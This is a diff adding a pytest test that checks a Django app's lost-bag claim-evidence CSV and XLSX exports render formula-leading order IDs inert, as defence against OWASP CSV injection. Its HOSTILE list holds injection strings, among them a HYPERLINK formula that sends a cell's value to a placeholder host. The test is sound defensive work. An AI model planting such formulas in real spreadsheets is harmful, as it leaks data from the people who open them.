@@ -107,3 +107,25 @@ def test_no_evidence_for_a_bag_not_reported_lost(manager_client):
         reverse("admin:pickups_consolidationbag_claim_evidence", args=[bag.pk, "csv"]), follow=True
     )
     assert "reported lost only" in response.content.decode()
+
+
+HOSTILE = ['=HYPERLINK("http://x/?"&B2,"Claim")', "+1+2", "-2+3", "@SUM(1+1)"]
+
+
+def test_formula_leading_text_is_inert_in_both_exports_and_numbers_stay_numbers(lost_bag):
+    """OWASP CSV injection: imported text reaches the claim evidence as text, never as a formula."""
+    bag, parcels = lost_bag
+    for parcel, hostile in zip(parcels, HOSTILE, strict=True):
+        parcel.order.order_id = hostile
+        parcel.order.save(update_fields=["order_id"])
+
+    rows = list(csv.reader(io.StringIO(claim_evidence_csv(bag).decode("utf-8-sig"))))
+    order_ids = {row[1] for row in rows[1:]}
+    assert order_ids == {"'" + hostile for hostile in HOSTILE}
+    assert {row[4] for row in rows[1:]} == {f"{p.weight_kg:.3f}" for p in parcels}  # numbers untouched
+
+    sheet = openpyxl.load_workbook(io.BytesIO(claim_evidence_xlsx(bag))).active
+    cells = [row for row in sheet.iter_rows(min_row=2)]
+    assert {row[1].value for row in cells} == set(HOSTILE)  # the text itself, shown as typed
+    assert all(row[1].data_type == "s" for row in cells)  # …in text cells, not formula cells
+    assert all(isinstance(row[4].value, (int, float)) for row in cells)  # weights still numbers
